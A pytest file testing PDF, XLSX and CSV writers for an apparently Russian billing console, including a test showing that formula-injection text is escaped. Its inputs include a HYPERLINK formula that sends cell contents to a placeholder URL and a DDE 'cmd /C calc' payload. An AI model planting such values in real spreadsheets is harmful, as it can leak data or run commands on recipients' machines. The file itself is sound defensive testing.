"""The document writers: PDFs with Cyrillic in the shipped font, CSV/XLSX typed for the office."""

from __future__ import annotations

import os
import stat
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from console.documents.files import DocumentError
from console.documents.pdf import PdfDocument, printable
from console.documents.tabular import (
    BOOL,
    DATE,
    DATETIME,
    INTEGER,
    MONEY,
    Column,
    Sheet,
    write_table,
)
from tests.doc_reading import csv_rows, pdf_text, xlsx_rows

CREATED = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)


def _act() -> PdfDocument:
    doc = PdfDocument("Акт № А-2026-0001", author="ООО «Сеть»", created=CREATED)
    doc.heading("Акт выполненных работ № А-2026-0001")
    doc.fields([("Договор", "10000001"), ("Абонент", "Семёнова-Тян-Шанская Ольга"),
                ("Адрес", ""), ("Заметка", "[bold]не разметка[/bold]\x1b[2J")])
    doc.table(["Работа", "Кол-во", "Сумма"],
              [["Обжим коннектора RJ-45", "2", "400,00 ₽"],
               ["Прокладка кабеля " * 12, "15", "7 500,00 ₽"]],
              widths=(6, 1, 2), align="LRR", footer=["Итого", "", "7 900,00 ₽"])
    doc.paragraph("Претензий к качеству работ не имею.\nВторая строка.")
    doc.signature("Исполнитель", "Сидоров П. И.")
    doc.signature("Заказчик")
    return doc


def test_pdf_renders_cyrillic_in_the_shipped_font(tmp_path: Path) -> None:
    path = _act().save(tmp_path / "acts" / "А-2026-0001.pdf")
    text = pdf_text(path)
    assert "Акт выполненных работ № А-2026-0001" in text
    assert "Семёнова-Тян-Шанская" in text
    assert "7 900,00 ₽" in text
    assert "[bold]не разметка[/bold]" in text  # client text is text, not markup
    assert "\x1b" not in text
    assert "Адрес: —" in text  # an empty field prints as a dash, never vanishes


def test_pdf_is_owner_only_and_reproducible(tmp_path: Path) -> None:
    first = _act().save(tmp_path / "a.pdf")
    assert stat.S_IMODE(os.stat(first).st_mode) == 0o600
    assert _act().to_bytes() == first.read_bytes()  # same content, same creation date
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_pdf_long_table_breaks_pages(tmp_path: Path) -> None:
    doc = PdfDocument("Длинный список", created=CREATED)
    doc.table(["№", "Работа"], [[str(i), f"Работа {i}"] for i in range(200)], widths=(1, 8))
    text = pdf_text(doc.to_bytes())
    assert "Работа 199" in text and text.count("Работа") >= 200


def test_pdf_table_rows_must_match_headers() -> None:
    with pytest.raises(ValueError):
        PdfDocument("x", created=CREATED).table(["a", "b"], [["only one"]])


def test_printable_drops_control_characters() -> None:
    assert printable("a\x00b\x07c\td\r\ne") == "abc d\ne"
    assert printable(None) == ""


SHEET = Sheet(
    "Начисления",
    [Column("Договор"), Column("Сумма, ₽", MONEY), Column("Дата", DATE),
     Column("Создано", DATETIME), Column("Кол-во", INTEGER), Column("Снято", BOOL),
     Column("Причина")],
    [
        ["10000001", 100000, date(2026, 12, 25), datetime(2026, 12, 31, 20, 30, tzinfo=UTC),
         1, False, "=HYPERLINK(\"x\")"],
        ["12-345", -30050, None, None, 2, True, "ёлка;\"кавычки\"\nвторая строка"],
    ],
)


def test_xlsx_types_numbers_dates_and_keeps_cyrillic(tmp_path: Path) -> None:
    path = write_table(tmp_path / "charges.xlsx", "xlsx", [SHEET])
    rows = xlsx_rows(path)
    assert rows[0][:2] == ("Договор", "Сумма, ₽")
    first, second = rows[1], rows[2]
    assert first[1] == 1000 and second[1] == Decimal("-300.5")  # roubles as numbers
    assert first[2] == datetime(2026, 12, 25)  # a date cell
    assert first[3] == datetime(2026, 12, 31, 23, 30)  # Moscow wall time, a new year's eve
    assert first[6] == '=HYPERLINK("x")'  # kept as text, never a formula
    assert second[6] == "ёлка;\"кавычки\"\nвторая строка"

    from openpyxl import load_workbook

    ws = load_workbook(path).active
    assert ws.freeze_panes == "A2"
    assert ws["A1"].font.bold
    assert ws["B2"].number_format == "#,##0.00"
    assert ws["C2"].number_format == "DD.MM.YYYY"
    assert ws["G2"].data_type == "s"
    assert ws.column_dimensions["A"].width >= len("Договор")


def test_csv_is_utf8_bom_semicolon_and_round_trips(tmp_path: Path) -> None:
    path = write_table(tmp_path / "charges.csv", "csv", [SHEET])
    assert path.read_bytes().startswith("\ufeff".encode())
    rows = csv_rows(path)
    assert rows[0][0] == "Договор"
    assert rows[1][:6] == ["10000001", "1000,00", "25.12.2026", "31.12.2026 23:30", "1", "нет"]
    assert rows[2][1] == "-300,50" and rows[2][5] == "да"
    assert rows[2][6] == "ёлка;\"кавычки\"\nвторая строка"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


@pytest.mark.parametrize("text, cell", [
    ('=HYPERLINK("http://x/?"&A1,"Нажми") Иван', '\'=HYPERLINK("http://x/?"&A1,"Нажми") Иван'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3*cmd", "'-2+3*cmd"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'=1+1"),  # a control character stripped first does not hide the formula
    ("+79031112233", "+79031112233"),  # a phone stays what billing reads
    ("-300,50", "-300,50"),
    ("+7 (903) 111-22-33", "+7 (903) 111-22-33"),
    ("Иванов = Петров", "Иванов = Петров"),
])
def test_csv_text_that_would_be_a_formula_is_kept_text(tmp_path: Path, text: str,
                                                        cell: str) -> None:
    sheet = Sheet("x", [Column("Клиент"), Column("Сумма", kind=MONEY)], [[text, -100]])
    rows = csv_rows(write_table(tmp_path / "x.csv", "csv", [sheet]))
    assert rows[1] == [cell, "-1,00"]  # money is a number, never given the apostrophe


def test_table_refuses_ragged_rows_and_unknown_formats(tmp_path: Path) -> None:
    ragged = Sheet("x", [Column("a"), Column("b")], [["1"]])
    with pytest.raises(ValueError, match="row 1"):
        write_table(tmp_path / "x.csv", "csv", [ragged])
    with pytest.raises(ValueError, match="unknown format"):
        write_table(tmp_path / "x.ods", "ods", [SHEET])
    assert not list(tmp_path.iterdir())


def test_unwritable_folder_is_one_clear_error(tmp_path: Path, english: None) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("")
    with pytest.raises(DocumentError, match="cannot write"):
        write_table(blocker / "sub" / "x.csv", "csv", [SHEET])
